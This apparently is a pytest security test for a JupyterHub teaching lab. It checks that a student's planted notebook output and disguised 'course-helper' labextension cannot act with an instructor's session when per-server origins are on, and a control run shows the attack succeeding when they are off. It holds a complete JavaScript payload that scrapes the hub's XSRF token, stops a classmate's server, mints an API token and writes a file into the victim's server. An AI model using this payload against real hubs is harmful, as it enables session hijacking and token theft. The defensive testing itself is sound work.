"""HTML a student writes never runs with an instructor's hub session (per-server origins, issue 10 section 1).

Production's way: HTTPS with a CA the test makes, host names under a test domain mapped to loopback in Chromium,
the real login provider. The student sam plants two things in his own server: a notebook whose output runs a
script (opened by the instructor through nbconvert) and a labextension in ~/.local (run when the instructor opens
sam's JupyterLab). The script scrapes the hub's XSRF token from a hub page and, with the instructor's session,
stops classmate bob's server and makes an API token for the instructor; it also opens bob's server in a frame and
writes a file there. The assertions read the hub's records and bob's files, not the page.

The same attack against a lab with per-server origins switched off succeeds: that control run shows the test
can fail, and that the defence is the origin, not luck.
"""

from __future__ import annotations

import json
import shlex
import shutil
import time

import pytest
import requests

from spawner.devlab.names import chromium_resolver_rules
from support.browser import CHROMIUM_ARGS, VIEWPORT, goto, sign_in_at_the_provider, trusting_home
from support.hub import HubUser
from support.lab_fixtures import TEST_DOMAIN, start_test_lab, stop_test_lab

pytestmark = [pytest.mark.browser, pytest.mark.hub, pytest.mark.docker]

ATTACKER, VICTIM, INSTRUCTOR, COURSE = "sam", "bob", "prof", "intro-python"
STOLEN_TOKEN_NOTE = "stolen-by-sam"
PLANTED_FILE = "pwned-by-sam.txt"
OPEN_TIMEOUT_MS = 120_000

ATTACK = """
(async () => {
  const report = [];
  try {
    const home = await (await fetch(HUB + "/hub/home", {credentials: "include"})).text();
    const xsrf = (home.match(/xsrf_token:\\s*"([^"]*)"/) || [])[1] || "";
    report.push("read-hub-page");
    const stop = await fetch(HUB + "/hub/api/users/VICTIM/servers/COURSE",
                             {method: "DELETE", credentials: "include", headers: {"X-XSRFToken": xsrf}});
    report.push("stop-" + stop.status);
    const token = await fetch(HUB + "/hub/api/users/INSTRUCTOR/tokens", {method: "POST", credentials: "include",
      headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"}, body: JSON.stringify({note: "NOTE"})});
    report.push("token-" + token.status);
  } catch (error) { report.push("hub-unreachable"); }
  try {
    const frame = document.createElement("iframe");
    frame.src = VICTIM_SERVER + "api/status";
    document.body.appendChild(frame);
    await new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 15000); });
    const cookie = (frame.contentDocument.cookie.match(/_xsrf=([^;]+)/) || [])[1] || "";
    const put = await fetch(VICTIM_SERVER + "api/contents/PLANTED", {method: "PUT", credentials: "include",
      headers: {"X-XSRFToken": decodeURIComponent(cookie), "Content-Type": "application/json"},
      body: JSON.stringify({type: "file", format: "text", content: "sam was here"})});
    report.push("write-" + put.status);
  } catch (error) { report.push("victim-unreachable"); }
  document.title = "attack done: " + report.join(" ");
})();
"""


def attack_script(lab) -> str:
    replacements = {
        "HUB": json.dumps(lab.public_url),
        "VICTIM_SERVER": json.dumps(lab.server_url(VICTIM, COURSE)),
        "VICTIM": VICTIM,
        "COURSE": COURSE,
        "INSTRUCTOR": INSTRUCTOR,
        "NOTE": STOLEN_TOKEN_NOTE,
        "PLANTED": PLANTED_FILE,
    }
    script = ATTACK
    for key in ("VICTIM_SERVER", "HUB", "VICTIM", "COURSE", "INSTRUCTOR", "NOTE", "PLANTED"):
        script = script.replace(key, replacements[key])
    return script


def plant(container, script: str) -> None:
    """What sam could do in his own terminal: a notebook with a script output, and a labextension in ~/.local."""
    notebook = {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {},
        "cells": [
            {
                "cell_type": "code",
                "execution_count": 1,
                "id": "c1",
                "metadata": {},
                "source": "show_results()",
                "outputs": [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/html": f"<p>Results</p><script>{script}</script>"},
                    }
                ],
            }
        ],
    }
    extension = "/home/jovyan/.local/share/jupyter/labextensions/course-helper"
    package = {
        "name": "course-helper",
        "version": "0.1.0",
        "jupyterlab": {"extension": True, "_build": {"load": "static/remoteEntry.js", "extension": "./extension"}},
    }
    remote_entry = (
        f"{script}\nwindow._JUPYTERLAB = window._JUPYTERLAB || {{}};\n"
        "window._JUPYTERLAB['course-helper'] = {init: () => {}, get: () => Promise.resolve(() => ({default: []}))};\n"
    )
    files = {
        "/home/jovyan/work/results.ipynb": json.dumps(notebook),
        f"{extension}/package.json": json.dumps(package),
        f"{extension}/static/remoteEntry.js": remote_entry,
    }
    for path, text in files.items():
        folder = path.rsplit("/", 1)[0]
        command = f"mkdir -p {shlex.quote(folder)} && printf '%s' {shlex.quote(text)} > {shlex.quote(path)}"
        exit_code, output = container.exec_run(["bash", "-c", command], user="1000:1000")
        assert exit_code == 0, output


def run_attack(lab, browser_factory, docker_client, output_dir, name: str) -> str:
    """Sam plants, bob runs, the instructor helps bob and then looks at sam's work. Returns what the page said."""
    sam, bob = HubUser(lab, ATTACKER), HubUser(lab, VICTIM)
    sam.start_and_wait(COURSE)
    bob.start_and_wait(COURSE)
    plant(docker_client.containers.get(lab.names.container(ATTACKER, COURSE)), attack_script(lab))
    context = browser_factory()
    page = context.new_page()
    page.set_default_timeout(OPEN_TIMEOUT_MS)
    try:
        goto(page, f"{lab.public_url}/hub/login")
        sign_in_at_the_provider(page, lab, INSTRUCTOR)
        # The instructor helps bob first: now their browser holds a session for bob's server.
        goto(page, lab.server_url(VICTIM, COURSE) + "lab")
        if "/oauth2/authorize" in page.url:
            page.get_by_role("button", name="Authorize").click()
        page.wait_for_url(f"**/user/{VICTIM}/{COURSE}/lab**")
        # Then looks at sam's results: through nbconvert, and in sam's JupyterLab.
        titles = []
        for url in (
            lab.server_url(ATTACKER, COURSE) + "nbconvert/html/results.ipynb?download=false",
            lab.server_url(ATTACKER, COURSE) + "lab",
        ):
            goto(page, url)
            if "/oauth2/authorize" in page.url:
                page.get_by_role("button", name="Authorize").click()
            deadline = time.monotonic() + 40
            while "attack done" not in page.title() and time.monotonic() < deadline:
                page.wait_for_timeout(500)
            titles.append(f"{page.title()} @ {page.url}")
            page.screenshot(path=output_dir / f"{name}-{len(titles)}.png")
        return " | ".join(titles)
    finally:
        context.close()


def what_the_attack_got(lab, docker_client, admin_token: str) -> dict:
    """Read from the hub's records and bob's files, not from the page."""
    headers = {"Authorization": f"token {admin_token}"}
    bob = requests.get(f"{lab.public_url}/hub/api/users/{VICTIM}", headers=headers, timeout=30).json()
    tokens = requests.get(f"{lab.public_url}/hub/api/users/{INSTRUCTOR}/tokens", headers=headers, timeout=30).json()
    container = docker_client.containers.list(all=True, filters={"name": lab.names.container(VICTIM, COURSE)})
    planted = bool(container) and container[0].exec_run(["test", "-e", f"/home/jovyan/work/{PLANTED_FILE}"]).exit_code == 0
    return {
        "victim_server_stopped": not bob.get("servers", {}).get(COURSE, {}).get("ready"),
        "token_stolen": any(token.get("note") == STOLEN_TOKEN_NOTE for token in tokens.get("api_tokens", [])),
        "file_planted": planted,
    }


@pytest.fixture(scope="module")
def browser_for(tmp_path_factory):
    """A Chromium that trusts the CAs of the labs it is given and maps the test domain to loopback."""
    from playwright import sync_api

    playwright = sync_api.sync_playwright().start()
    browsers = []

    def make(*labs):
        home = tmp_path_factory.mktemp("chromium-home")
        for lab in labs:
            trusting_home(home, lab.certificates.ca_certificate)
        browser = playwright.chromium.launch(
            executable_path=shutil.which("chromium"),
            args=[*CHROMIUM_ARGS, chromium_resolver_rules(TEST_DOMAIN)],
            env={"HOME": str(home), "PATH": "/usr/bin:/bin"},
        )
        browsers.append(browser)
        return lambda: browser.new_context(viewport=VIEWPORT)

    yield make
    for browser in browsers:
        browser.close()
    playwright.stop()


def test_a_students_html_cannot_act_with_the_instructors_session(lab, users, docker_client, browser_for, output_dir):
    admin = users("admin")
    shown = run_attack(lab, browser_for(lab), docker_client, output_dir, "per-server-origins")
    got = what_the_attack_got(lab, docker_client, admin.token)
    assert got == {"victim_server_stopped": False, "token_stolen": False, "file_planted": False}, shown
    assert "attack done" in shown  # the script did run: in sam's own origin, where it reaches nothing


@pytest.fixture(scope="module")
def path_based_lab(
    lab, build_settings, hub_catalog, session_id, session_labels, site_config_dir, docker_client, tmp_path_factory
):
    """The control: the same lab with per-server origins switched off (everything on one origin). It shares the
    published courses and the test CA of the main lab."""
    state = tmp_path_factory.mktemp("path-lab-state")
    shutil.copytree(build_settings.registry_dir, state / "courses")
    tls = state / "lab" / "tls"
    tls.mkdir(parents=True)
    for name in ("ca.crt", "ca.key"):
        shutil.copy2(lab.certificates.folder / name, tls / name)
    lab = start_test_lab(
        state_dir=state,
        catalog=hub_catalog,
        network=f"teachlab-test-path-{session_id}",
        labels=session_labels,
        site_config_dir=site_config_dir,
        name_prefix=f"tp{session_id}",
        per_server_origins=False,
        domain="path.teachlab.test",
    )
    yield lab
    stop_test_lab(lab, docker_client, session_labels)


def test_without_per_server_origins_the_same_attack_succeeds(path_based_lab, docker_client, browser_for, output_dir):
    admin = HubUser(path_based_lab, "admin")
    shown = run_attack(path_based_lab, browser_for(path_based_lab), docker_client, output_dir, "one-origin")
    got = what_the_attack_got(path_based_lab, docker_client, admin.token)
    assert got["victim_server_stopped"] and got["token_stolen"], (got, shown)
